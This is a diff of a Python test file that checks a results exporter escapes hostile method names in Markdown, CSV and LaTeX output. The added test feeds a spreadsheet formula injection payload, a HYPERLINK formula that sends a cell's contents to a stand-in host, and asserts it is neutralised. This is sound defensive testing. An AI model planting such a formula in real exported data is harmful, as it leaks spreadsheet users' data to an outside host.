@@ -210,12 +210,19 @@ def test_hostile_names_break_no_format(make_run: Make, tmp_path: Path) -> None:
     text = as_markdown(found)
     assert "\\<script\\>" in text and "\\u202ebidi" in text and "\x1b" not in text
     assert text.count("\n| a_b") == 3, "one row in each of three tables"
-    assert lines(as_csv(found))[0]["method"] == HOSTILE
+    assert lines(as_csv(found))[0]["method"] == HOSTILE.replace("\u202e", "\\u202e").replace("\x1b", "\\x1b")
     make_run("_ours_ ~~a_b~~ &lt;", good)
     assert "\n| \\_ours\\_ \\~\\~a_b\\~\\~ \\&lt; |" in as_markdown(read(tmp_path / "runs"))
     assert escaped("50% & {x}_^~\\ 漢 é ↑") == (
         "50\\% \\& \\{x\\}\\_\\textasciicircum{}\\textasciitilde{}\\textbackslash{} U+6F22 é $\\uparrow$"
     )
+
+
+@pytest.mark.parametrize("opening", ["=", "+", "-", "@", "\t="])
+def test_no_spreadsheet_runs_a_name(make_run: Make, tmp_path: Path, opening: str) -> None:
+    name = f'{opening}HYPERLINK("http://x/?"&A2)'
+    make_run(name, good)
+    assert lines(as_csv(read(tmp_path / "runs")))[0]["method"] == f"'{name}"
 
 
 @pytest.mark.slow
